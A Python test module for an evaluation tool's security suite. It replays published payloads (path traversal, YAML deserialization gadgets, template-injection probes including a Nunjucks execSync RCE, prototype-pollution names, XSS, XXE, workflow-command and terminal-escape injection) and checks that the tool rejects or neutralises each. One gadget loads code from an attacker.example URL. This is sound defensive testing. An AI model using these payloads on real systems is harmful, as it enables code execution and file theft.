"""Payloads from published lists, carried by a dataset, a suite file or an agent.

Each class replays what attackers actually send, from lists evals was not written against:

- path traversal (PayloadsAllTheThings, "Directory Traversal" and "File Inclusion"): URL,
  double-URL and overlong UTF-8 encodings, `....//`, backslashes, a NUL byte, `~` and
  `$HOME`, full-width dots, `file://localhost`, globs and braces that climb, `/proc`;
  every one aims at a file outside the case holding a planted key, which the corpus's
  invariants look for in everything written;
- YAML deserialization gadgets (PayloadsAllTheThings, "Insecure Deserialization / YAML":
  PyYAML, js-yaml, SnakeYAML and Ruby gadgets, the `%TAG` directive that hides them);
- template injection probes (PayloadsAllTheThings and HackTricks, "Server Side Template
  Injection": the polyglot, other engines' detection probes, Nunjucks' `include`,
  `import` and `extends` of host files);
- names JavaScript gives meaning to (`__proto__`, `constructor`, `toString`) as a
  dataset's column and var names (prototype pollution, CWE-1321);
- report and terminal injection by an agent (OWASP's XSS Filter Evasion cheat sheet,
  markdown links, images and mentions in a pull-request comment, characters XML 1.0 cannot
  hold, GitHub Actions workflow commands, terminal escape sequences, Trojan Source's
  bidirectional overrides).
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from dataclasses import replace

from tests.hostile.builders import GOOD_AGENT, agent_case
from tests.hostile.harness import (
    LITERAL_SECRETS,
    OUTSIDE_DIR,
    Case,
    Correct,
    Outcome,
    UsageError,
)

SUITE = """\
prompts: ['Q: {{q}}']
providers: [{id: file://good.py, label: good}]
tests: %s
gates: {}
"""

# The file every traversal aims at: outside the case, holding a planted key.
TARGET = {"../outside/secret.txt": f"key {LITERAL_SECRETS[0]}\n", "sub/kept.txt": "kept\n"}


def _traversal(id: str, value: str) -> Case:
    """A CSV dataset whose one row names `value` as a `file://` var."""
    cell = value.replace('"', '""')
    return Case(
        id=f"traversal-{id}",
        category="datasets",
        files={
            "suite.yaml": SUITE % "file://tests.csv",
            "good.py": GOOD_AGENT,
            "tests.csv": f'q\n"file://{cell}"\n',
            **TARGET,
        },
        expect=UsageError(("tests.csv",), line=2),
    )


TRAVERSALS = {
    "url-encoded": "..%2foutside%2fsecret.txt",
    "url-encoded-dots": "%2e%2e%2foutside%2fsecret.txt",
    "double-url-encoded": "..%252foutside%252fsecret.txt",
    "overlong-utf8": "..%c0%afoutside%c0%afsecret.txt",
    "dot-dot-slash-doubled": "....//outside//secret.txt",
    "backslashes": "..\\outside\\secret.txt",
    "nul-byte-suffix": "../outside/secret.txt%00.csv",
    "slashes-repeated": "..///////outside/secret.txt",
    "climbs-out-of-subfolder": "./sub/../../outside/secret.txt",
    "absolute": f"{OUTSIDE_DIR}/secret.txt",
    "localhost-host": f"localhost{OUTSIDE_DIR}/secret.txt",
    "four-slashes": f"/{OUTSIDE_DIR}/secret.txt",
    "tilde-home": "~/../outside/secret.txt",
    "dollar-home": "$HOME/../outside/secret.txt",
    "fullwidth-dots": "\uff0e\uff0e/outside/secret.txt",
    "glob-climbs": "*/../../outside/secret.txt",
    "glob-brace": "{..,sub}/outside/secret.txt",
    "glob-double-star-climbs": "**/../../outside/secret.*",
    "proc-environ": "/proc/self/environ",
    "directory": "../outside",
}


def _ref_traversal(id: str, ref: str) -> Case:
    """A JSON dataset whose var is a `$ref` to `ref`."""
    row = [{"vars": {"q": {"$ref": ref}}}]
    return Case(
        id=f"traversal-ref-{id}",
        category="datasets",
        files={
            "suite.yaml": SUITE % "file://tests.json",
            "good.py": GOOD_AGENT,
            "tests.json": json.dumps(row),
            "../outside/secret.json": json.dumps({"key": LITERAL_SECRETS[0]}),
            **TARGET,
        },
        expect=UsageError(("tests.json", "$ref"), line=1),
    )


REF_TRAVERSALS = {
    "parent": "../outside/secret.json#/key",
    "absolute": f"{OUTSIDE_DIR}/secret.json#/key",
    "file-url": f"file://{OUTSIDE_DIR}/secret.json#/key",
    "remote-url": "http://127.0.0.1:9/secret.json#/key",
    "self-loop": "#",
}

# Gadgets: each would create a marker file if its tag were constructed.
MARK = f"{OUTSIDE_DIR}/pwned"
GADGETS = {
    "pyyaml-apply": f'!!python/object/apply:os.system ["touch {MARK}"]',
    "pyyaml-new": f'!!python/object/new:subprocess.check_output [["touch", "{MARK}"]]',
    "pyyaml-name": "!!python/name:os.system",
    "pyyaml-module": "!!python/module:os",
    "pyyaml-object": "!!python/object:os.PathLike {}",
    "verbatim-tag": f'!<tag:yaml.org,2002:python/object/apply:os.system> ["touch {MARK}"]',
    "js-yaml-function": "!!js/function \"function () { require('fs') }\"",
    "js-yaml-undefined": "!!js/undefined ''",
    "js-yaml-regexp": "!!js/regexp /a/g",
    "ruby-gem-installer": "!ruby/object:Gem::Installer {i: x}",
    "snakeyaml-script-engine": (
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
        '["http://attacker.example/"]]]]'
    ),
}


def _gadget(id: str, gadget: str) -> Case:
    """A YAML dataset whose var is the gadget: refused at its line, naming the tag."""
    return Case(
        id=f"yaml-gadget-{id}",
        category="datasets",
        files={
            "suite.yaml": SUITE % "file://tests.yaml",
            "good.py": GOOD_AGENT,
            "tests.yaml": f"- vars: {{q: hi}}\n- vars:\n    q: {gadget}\n",
        },
        expect=UsageError(("tests.yaml", "tag"), line=3),
    )


TAG_DIRECTIVE = f"""\
%TAG !p! tag:yaml.org,2002:python/
---
- vars:
    q: !p!object/apply:os.system ["touch {MARK}"]
"""

GADGET_ELSEWHERE = [
    Case(
        id="yaml-gadget-tag-directive",
        category="datasets",
        files={
            "suite.yaml": SUITE % "file://tests.yaml",
            "good.py": GOOD_AGENT,
            "tests.yaml": TAG_DIRECTIVE,
        },
        expect=UsageError(("tests.yaml", "tag"), line=4),
    ),
    Case(
        id="yaml-gadget-in-var-file",
        category="datasets",
        files={
            "suite.yaml": SUITE % "file://tests.csv",
            "good.py": GOOD_AGENT,
            "tests.csv": "q\nfile://context.yaml\n",
            "context.yaml": f"note: {GADGETS['pyyaml-apply']}\n",
        },
        expect=UsageError(("context.yaml", "tag"), line=1),
    ),
    Case(
        id="yaml-gadget-in-providers-file",
        category="suites",
        files={
            "suite.yaml": "prompts: ['{{q}}']\nproviders: file://providers.yaml\n"
            "tests: [{vars: {q: hi}}]\n",
            "good.py": GOOD_AGENT,
            "providers.yaml": f"- id: file://good.py\n  config: {GADGETS['pyyaml-new']}\n",
        },
        expect=UsageError(("providers.yaml", "tag"), line=2),
    ),
    Case(
        id="yaml-gadget-in-suite-env",
        category="suites",
        files={
            "suite.yaml": f"env:\n  X: {GADGETS['pyyaml-apply']}\n"
            "prompts: ['{{q}}']\nproviders: [file://good.py]\ntests: [{vars: {q: hi}}]\n",
            "good.py": GOOD_AGENT,
        },
        expect=UsageError(("suite.yaml", "tag"), line=2),
    ),
]

# Template-injection probes as dataset cells. Each renders as text or fails its own row
# (a template_error); none reaches a file, a command or another row.
SSTI = {
    "polyglot": "${{<%[%'\"}}%\\.",
    "math-probe": "{{7*7}}",
    "jinja-string-multiply": "{{7*'7'}}",
    "erb-probe": "<%= 7*7 %>",
    "el-probe": "${7*7}",
    "ruby-interpolation": "#{7*7}",
    "thymeleaf-probe": "*{7*7}",
    "include-host-file": '{% include "/etc/passwd" %}',
    "include-climbs": '{% include "../outside/secret.txt" %}',
    "import-host-file": '{% import "/etc/hosts" as hosts %}{{ hosts }}',
    "extends-host-file": '{% extends "/etc/passwd" %}',
    "from-import": '{% from "../outside/secret.txt" import key %}{{ key }}',
    "nunjucks-rce": (
        "{{range.constructor(\"return global.process.mainModule.require('child_process')"
        f".execSync('touch {MARK}')\")()}}"
    ),
    "constructor-keys-of-this": '{{ [].constructor.constructor("return Object.keys(this)")() }}',
    "unclosed-raw": "{% raw %}{{ q }}",
    "macro-recursion": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
}


def _prompts_hold_no_host_text(outcome: Outcome) -> None:
    runs = outcome.runs()
    assert len(runs) == len(SSTI) + 1, f"{len(runs)} runs"
    for run in runs:
        prompt = run["prompt"] or ""
        assert "root:" not in prompt and "localhost" not in prompt, prompt
        assert run["status"] != "error" or run["error_kind"] == "template_error", run
    first = [r for r in runs if r["prompt"] == "Q: first row"]
    assert first, "the clean row rendered differently"


def _ssti_case() -> Case:
    rows = [{"q": "first row"}, *({"q": payload} for payload in SSTI.values())]
    return Case(
        id="ssti-payload-list",
        category="datasets",
        files={
            "suite.yaml": SUITE % "file://tests.json",
            "good.py": GOOD_AGENT,
            "tests.json": json.dumps([{"vars": row} for row in rows]),
            **TARGET,
        },
        expect=Correct(
            "each probe renders as text or fails its own row; no host file is included",
            exit_code=(0, 1),
            check=_prompts_hold_no_host_text,
        ),
        limit_s=60,
    )


PROTO_SUITE = """\
prompts: ['{{ q }}|{{ content }}|{{ polluted }}|{{ toString | length }}']
providers: [{id: file://good.py, label: good}]
tests: %s
gates: {}
"""


def _second_row_is_clean(outcome: Outcome) -> None:
    prompts = [r["prompt"] for r in outcome.runs()]
    assert len(prompts) == 2, prompts
    assert prompts[-1].startswith("second||"), prompts


PROTOTYPE_NAMES = [
    Case(
        id="proto-csv-columns",
        category="datasets",
        files={
            "suite.yaml": PROTO_SUITE % "file://tests.csv",
            "good.py": GOOD_AGENT,
            "tests.csv": "q,__proto__,constructor,prototype\nfirst,P,C,R\nsecond,,,\n",
        },
        expect=Correct("later rows see none of an earlier row's names", check=_second_row_is_clean),
    ),
    Case(
        id="proto-json-vars",
        category="datasets",
        files={
            "suite.yaml": PROTO_SUITE % "file://tests.json",
            "good.py": GOOD_AGENT,
            "tests.json": json.dumps(
                [
                    {"vars": {"q": "first", "__proto__": {"content": "X", "polluted": "Y"}}},
                    {"vars": {"q": "second"}},
                ]
            ),
        },
        expect=Correct("a __proto__ var changes its own row at most", check=_second_row_is_clean),
    ),
    Case(
        id="proto-yaml-constructor-var",
        category="datasets",
        files={
            "suite.yaml": PROTO_SUITE % "file://tests.yaml",
            "good.py": GOOD_AGENT,
            "tests.yaml": "- vars: {q: first, constructor: {prototype: {polluted: Y}}}\n"
            "- vars: {q: second}\n",
        },
        expect=Correct("a constructor var changes its own row at most", check=_second_row_is_clean),
    ),
]

REPORT_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "[click](javascript:alert(3)) ![pixel](https://attacker.example/p.png) @everyone",
    "</details></table>",
    "]]><!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>&xxe;",
    "NUL\x00 ESC\x1b[31m BEL\x07 VT\x0b U+FFFE\ufffe",
    "\n::error file=app.py::injected\n::add-mask::everything\n::stop-commands::x",
    "\x1b]0;retitled\x07\x1b]52;c;Y2xpcGJvYXJk\x07\x1b[2J\rline overwritten",
    "\u202egnp.exe \u2066safe\u2069",
]


def _reports_hold_text(outcome: Outcome) -> None:
    ET.fromstring(outcome.report("report.xml"))  # every character XML can hold
    markdown = outcome.report("report.md")
    assert not re.search(r"(?<!\\)<(script|img|/table)", markdown), markdown
    links = re.findall(r".{0,40}(?<!\\)\]\(.{0,20}|.{0,20}@everyone", markdown)
    assert not links, links
    assert markdown.count("</details>") == markdown.count("<details>"), markdown
    for stream in (outcome.stdout, outcome.stderr):
        assert not re.search("[\x00\x07\x1b\u202e\u2066]", stream), repr(stream[-500:])
    # in GitHub Actions the log's workflow commands are paused around everything printed
    lines = outcome.stdout.splitlines()
    paused = re.fullmatch(r"::stop-commands::([0-9a-f]{32})", lines[0])
    assert paused, lines[:2]
    resume = f"::{paused.group(1)}::"
    assert lines[-1] == resume and outcome.text.count(resume) == 1, lines[-2:]


def _report_case(id: str, body: str, tags: bool = False) -> Case:
    case = agent_case(
        f"report-injection-{id}",
        f"""
        PAYLOADS = {REPORT_PAYLOADS!r}


        def call_api(prompt, options, context):
            {body}
        """,
        Correct(
            "reports parse and show the agent's text as text",
            exit_code=(0, 1),
            check=_reports_hold_text,
        ),
    )
    case = replace(case, env={"GITHUB_ACTIONS": "true"})
    if not tags:
        return case
    suite = str(case.files["suite.yaml"]).replace(
        "  - vars: {q: hello}\n",
        "  - vars: {q: hello}\n    description: "
        + json.dumps(" ".join(REPORT_PAYLOADS))
        + "\n    metadata: {tags: "
        + json.dumps(REPORT_PAYLOADS)
        + "}\n",
    )
    return replace(case, files={**case.files, "suite.yaml": suite})


REPORT_INJECTION = [
    _report_case("output", 'return {"output": " ".join(PAYLOADS)}'),
    _report_case("error", 'return {"error": " ".join(PAYLOADS)}'),
    _report_case("exception", 'raise RuntimeError(" ".join(PAYLOADS))'),
    _report_case(
        "tool-names",
        'return {"output": "ok", "trajectory": [{"kind": "tool", "name": p} for p in PAYLOADS]}',
    ),
    _report_case("tags-and-description", 'return {"output": "ok " + prompt}', tags=True),
]


def _all() -> list[Case]:
    cases = [_traversal(id, value) for id, value in TRAVERSALS.items()]
    cases += [_ref_traversal(id, ref) for id, ref in REF_TRAVERSALS.items()]
    cases += [_gadget(id, gadget) for id, gadget in GADGETS.items()]
    cases += GADGET_ELSEWHERE
    cases.append(_ssti_case())
    cases += PROTOTYPE_NAMES
    cases += REPORT_INJECTION
    return cases


CASES: list[Case] = _all()
